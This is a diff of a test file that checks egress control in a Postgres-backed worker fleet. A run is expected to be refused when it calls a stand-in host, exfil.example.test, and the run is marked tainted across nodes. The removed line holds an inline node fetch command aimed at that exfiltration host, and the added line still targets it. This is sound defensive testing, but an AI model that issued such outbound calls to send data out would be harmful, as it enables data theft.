@@ -187,11 +187,11 @@ describe("a fleet on Postgres: nodes, heartbeats, the shared folder (real Postgr
   })
 
   it("a run tainted on one node, untainted by a person on another: each node wrote only its own events file, and both see the decision", async () => {
-    const r = await a.roster(["worker", "run", "alice", `!node -e 'fetch("https://exfil.example.test/").then(() => console.log("EXFIL reached"), () => console.log("EXFIL refused"))'`])
+    const r = await a.roster(["worker", "run", "alice", askScript(a, "fleet-taint.sh", ["exfil.example.test:443 exfil"], shared)])
     expect(r.code, r.stderr).toBe(0)
     const runs = path.join(shared, "runs", "alice")
     const runId = latestRunId(runs)
-    expect(fs.readFileSync(path.join(runs, runId, "stdout.jsonl"), "utf8")).toContain("EXFIL refused")
+    expect(answersOf(fs.readFileSync(path.join(runs, runId, "stdout.jsonl"), "utf8")).exfil).toContain("HTTP/1.1 403")
     const before = await b.roster(["runs", "show", runId])
     expect(before.stdout).toContain("node:      node-a")
     expect(before.stdout).toContain("tainted:   egress_refused (exfil.example.test): no_rule")
